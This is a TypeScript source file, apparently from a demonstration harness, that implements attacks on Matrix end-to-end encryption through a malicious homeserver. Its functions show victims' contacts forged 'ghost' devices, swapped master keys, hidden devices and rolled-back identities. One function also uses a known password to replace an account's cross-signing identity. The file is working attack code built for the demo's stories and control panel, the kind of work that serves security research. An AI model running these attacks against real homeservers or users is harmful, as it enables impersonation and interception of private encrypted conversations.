/**
 * Attacks, each as a function that starts it and returns the way to end it. The stories and the panel of the demo run
 * the same ones. The homeserver lies through its module (lying_keys.py), the log through the switch in front of it.
 */
import { forgedDevice, forgedIdentity } from "./forged-keys.ts";
import type { ForgedIdentity, KeyObject, ShownKeys } from "./forged-keys.ts";
import type { LyingRule, SynapseUser } from "./synapse.ts";

/** Device id of every ghost. */
export const GHOST = "GHOST";

/** An account in the hands of the homeserver. */
export interface Account {
  readonly userId: string;
  readonly deviceId: string;
  readonly accessToken: string;
}

interface Located {
  readonly url: string;
}

/** A homeserver that loads the lying module. */
export interface LyingHomeserver extends Located {
  setRules(rules: readonly LyingRule[]): Promise<void>;
}

/** An attack that is going on. */
export interface Attack {
  /** Ends it: from now on readers are told the truth. */
  stop(): Promise<void>;
}

/** The lies of one homeserver that are told at present. */
export class KeyLies {
  readonly #homeserver: LyingHomeserver;
  readonly #told = new Set<LyingRule>();

  constructor(homeserver: LyingHomeserver) {
    this.#homeserver = homeserver;
  }

  /** Shows `readers` a device of the victim that nobody owns; returns once they have been made to look. */
  async ghostDevice(
    victim: Account,
    readers: readonly string[],
    device: KeyObject = forgedDevice(victim.userId, GHOST),
  ): Promise<Attack> {
    return await this.#tell(victim, { readers, devices: { [GHOST]: device } });
  }

  /** Shows `readers` another digital identity of the victim, which has signed all devices and one more. */
  async swappedMasterKey(victim: Account, readers: readonly string[]): Promise<Attack> {
    const identity = forgedIdentity(victim.userId);
    const { devices } = await this.shownKeys(victim);
    const shown = { ...devices, [GHOST]: forgedDevice(victim.userId, GHOST) };
    return await this.#tell(victim, { readers, ...underIdentity(identity, shown) });
  }

  /** Hides a device of the victim from `readers`. */
  async hiddenDevice(victim: Account, readers: readonly string[], deviceId: string): Promise<Attack> {
    return await this.#tell(victim, { readers, hide_devices: [deviceId] });
  }

  /** Shows `readers` the victim's identity as it was, instead of as it is. `earlier` comes from `shownKeys`. */
  async rolledBackKey(victim: Account, readers: readonly string[], earlier: ShownKeys): Promise<Attack> {
    const { devices, masterKey, selfSigningKey } = earlier;
    if (masterKey === undefined || selfSigningKey === undefined) throw new Error("there was no identity to go back to");
    return await this.#tell(victim, { readers, devices, master_key: masterKey, self_signing_key: selfSigningKey });
  }

  /** The keys of an account as its homeserver shows them to the account itself. */
  async shownKeys(account: Account): Promise<ShownKeys> {
    const { userId } = account;
    const answer = JSON.parse(await this.keysAnswer(account)) as {
      device_keys: Record<string, Record<string, KeyObject>>;
      master_keys?: Record<string, KeyObject>;
      self_signing_keys?: Record<string, KeyObject>;
    };
    const [masterKey, selfSigningKey] = [answer.master_keys?.[userId], answer.self_signing_keys?.[userId]];
    return {
      devices: answer.device_keys[userId] ?? {},
      ...(masterKey === undefined ? {} : { masterKey }),
      ...(selfSigningKey === undefined ? {} : { selfSigningKey }),
    };
  }

  /** The text of the answer to `/keys/query` that an account gets about itself. */
  async keysAnswer({ userId, accessToken }: Account): Promise<string> {
    return await request(this.#homeserver.url, "POST", "/keys/query", accessToken, { device_keys: { [userId]: [] } });
  }

  /** Ends all lies. */
  async stop(): Promise<void> {
    this.#told.clear();
    await this.#homeserver.setRules([]);
  }

  async #tell(victim: Account, shown: Omit<LyingRule, "victim">): Promise<Attack> {
    const lie = { victim: victim.userId, ...shown };
    this.#told.add(lie);
    await this.#take(victim);
    return {
      stop: async () => {
        if (this.#told.delete(lie)) await this.#take(victim);
      },
    };
  }

  /** Puts the rules in force and makes the readers ask again: a rename counts as a change of the device list. */
  async #take(victim: Account): Promise<void> {
    await this.#homeserver.setRules([...this.#told]);
    const path = `/devices/${encodeURIComponent(victim.deviceId)}`;
    const body = { display_name: `renamed ${String(performance.now())}` };
    await request(this.#homeserver.url, "PUT", path, victim.accessToken, body);
  }
}

function underIdentity(
  identity: ForgedIdentity,
  devices: ShownKeys["devices"],
): Pick<LyingRule, "devices" | "master_key" | "self_signing_key"> {
  const signed = Object.entries(devices).map(([deviceId, device]) => [deviceId, identity.signDevice(device)] as const);
  return {
    devices: Object.fromEntries(signed),
    master_key: identity.masterKey,
    self_signing_key: identity.selfSigningKey,
  };
}

/** Uploads keys for a device that somebody has logged in on, without any identity signing it. */
export async function uploadDevice(homeserver: Located, account: Account, device: KeyObject): Promise<void> {
  await request(homeserver.url, "POST", "/keys/upload", account.accessToken, { device_keys: device });
}

/** Replaces the identity of an account whose password the attacker knows, for everybody. */
export async function replaceIdentity(homeserver: Located, account: SynapseUser): Promise<void> {
  const { masterKey, selfSigningKey } = forgedIdentity(account.userId);
  const body = { master_key: masterKey, self_signing_key: selfSigningKey };
  const upload = async (more: object): Promise<Response> => {
    const path = "/keys/device_signing/upload";
    return await answerOf(homeserver.url, "POST", path, account.accessToken, { ...body, ...more });
  };
  const { session } = (await (await upload({})).json()) as { readonly session?: string };
  const identifier = { type: "m.id.user", user: account.userId };
  const done = await upload({ auth: { type: "m.login.password", identifier, password: account.password, session } });
  if (!done.ok) throw new Error(`the identity was not replaced: ${await done.text()}`);
}

async function request(url: string, method: string, path: string, accessToken: string, body: object): Promise<string> {
  const response = await answerOf(url, method, path, accessToken, body);
  if (!response.ok) throw new Error(`${method} ${path}: ${String(response.status)} ${await response.text()}`);
  return await response.text();
}

async function answerOf(
  url: string,
  method: string,
  path: string,
  accessToken: string,
  body: object,
): Promise<Response> {
  return await fetch(`${url}/_matrix/client/v3${path}`, {
    method,
    headers: { authorization: `Bearer ${accessToken}`, "content-type": "application/json" },
    body: JSON.stringify(body),
  });
}
